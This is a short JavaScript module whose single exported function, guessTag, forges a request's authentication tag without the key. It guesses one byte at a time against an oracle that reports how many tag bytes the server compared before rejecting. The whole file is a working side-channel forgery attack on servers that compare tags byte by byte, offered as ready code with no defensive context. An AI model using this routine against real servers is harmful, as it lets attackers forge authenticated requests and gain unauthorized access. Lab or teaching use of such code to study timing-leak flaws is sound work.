/**
 * Finds the right tag (a Buffer of `length` bytes) of a request, with no key.
 * `oracle(tag)` sends the request with a tag (a Buffer of `length` bytes)
 * and gives { accepted, compared }: whether the server took it, and how many
 * bytes it had compared until it knew.
 */
export function guessTag(oracle, length) {
  const guess = Buffer.alloc(length);
  for (let at = 0; at < length; at++) {
    for (let byte = 0; byte < 256; byte++) {
      guess[at] = byte;
      const { accepted, compared } = oracle(guess);
      // Right, when the server went on to the next byte. Behind the last one there is none.
      if (accepted || compared > at + 1) break;
    }
  }
  return guess;
}
